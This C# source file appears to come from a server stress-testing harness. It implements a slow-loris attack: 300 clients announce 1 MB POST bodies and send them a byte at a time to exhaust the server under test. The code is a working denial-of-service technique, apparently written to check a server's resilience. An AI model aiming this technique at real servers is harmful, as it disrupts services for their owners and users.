using Lariat.Attacks.Measuring;

namespace Lariat.Attacks;

/// <summary>Slow-loris: bodies that never end.</summary>
internal sealed class SlowBodies : IAttack
{
    private const int Count = 300;

    public string Name => "slow-bodies";

    public string Summary => "300 clients announce a body of 1 MB and send it a byte at a time.";

    public Task RunAsync(ServerProcess server, AttackLog log, CancellationToken end) => Attackers.RepeatAsync(Count, log, () => DripAsync(server, end), end);

    private static async Task DripAsync(ServerProcess server, CancellationToken end)
    {
        using Peer peer = await Peer.ConnectAsync(server.HttpPort, end);
        await peer.SendAsync("POST /upload HTTP/1.1\r\nHost: a\r\nContent-Length: 1000000\r\n\r\n", end);
        while (true)
        {
            await peer.SendAsync("x", end);
            await Task.Delay(100, end);
        }
    }
}
